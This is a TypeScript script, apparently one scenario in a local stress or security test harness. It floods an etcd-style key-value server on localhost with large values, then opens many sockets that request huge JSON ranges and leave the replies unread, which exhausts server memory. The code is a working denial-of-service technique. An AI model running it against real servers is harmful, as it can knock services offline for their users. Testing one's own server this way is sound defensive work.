/**
 * Large ranges as JSON, asked for and not read: each answer is some thirty megabytes of text, and
 * its making is work. Arguments: connections, MiB of values in the store.
 */
import { type Attack, runAttack } from "./script.ts";

const VALUE_BYTES = 64 * 1024;
/** Until the heads of answers are read that came meanwhile. */
const AFTER_MS = 100;

await runAttack(async (attack) => {
  const [connections = "60", megabytes = "24"] = attack.args;
  await fill(attack.port, (Number(megabytes) * 1024 * 1024) / VALUE_BYTES);
  const body = JSON.stringify({ key: base64("large/"), range_end: base64("large0") });
  const fields = `host: localhost\r\ncontent-length: ${body.length}\r\n`;
  const head = `POST /v3/kv/range HTTP/1.1\r\n${fields}`;
  const open = Array.from({ length: Number(connections) }, () => reader(attack));
  const sockets = await Promise.all(open);
  attack.begin();
  for (const socket of sockets) {
    socket.write(`${head}\r\n${body}`);
    socket.pause();
    attack.count("ranges asked for");
  }
  await Bun.sleep(attack.leftMs);
  for (const socket of sockets) socket.resume();
  await Bun.sleep(AFTER_MS);
  for (const socket of sockets) socket.terminate();
});

async function fill(port: number, count: number): Promise<void> {
  const value = base64("v".repeat(VALUE_BYTES));
  for (let place = 0; place < count; place++) {
    const key = base64(`large/${`${place}`.padStart(6, "0")}`);
    const response = await fetch(`http://localhost:${port}/v3/kv/put`, {
      method: "POST",
      body: JSON.stringify({ key, value }),
    });
    if (!response.ok) throw new Error(`put: ${response.status} ${await response.text()}`);
    await response.arrayBuffer();
  }
}

function reader(attack: Attack): Promise<Bun.Socket> {
  return Bun.connect({
    hostname: "127.0.0.1",
    port: attack.port,
    socket: {
      data: (_socket, bytes) => {
        const status = /^HTTP\/1\.1 (\d+)/.exec(bytes.toString("latin1", 0, 12))?.[1];
        if (status !== undefined) attack.end(status);
      },
      close: () => attack.end("closed"),
    },
  });
}

function base64(text: string): string {
  return Buffer.from(text).toString("base64");
}
